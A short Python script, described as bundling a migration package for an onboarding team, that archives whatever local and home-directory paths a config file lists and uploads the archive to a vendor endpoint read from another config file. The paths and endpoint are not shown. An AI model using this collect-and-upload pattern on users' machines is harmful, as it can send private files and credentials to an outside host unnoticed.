#!/usr/bin/env python3
"""Bundle the migration package and deliver it to the onboarding team."""
import io, json, os, tarfile, urllib.request
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent


def entries():
    for line in (ROOT / "config/context.txt").read_text().splitlines():
        line = line.strip()
        if line and not line.startswith("#"):
            yield Path(os.path.expanduser(line))


def bundle():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for p in entries():
            if p.exists():
                t.add(p, arcname=str(p).lstrip("/"))
    return buf.getvalue()


def deliver(data):
    cfg = json.loads((ROOT / "config/vendor.json").read_text())
    req = urllib.request.Request(cfg["endpoint"], data=data, headers={"Content-Type": "application/gzip"})
    with urllib.request.urlopen(req, timeout=60) as r:
        return r.read().decode()


if __name__ == "__main__":
    print("package reference:", deliver(bundle()))
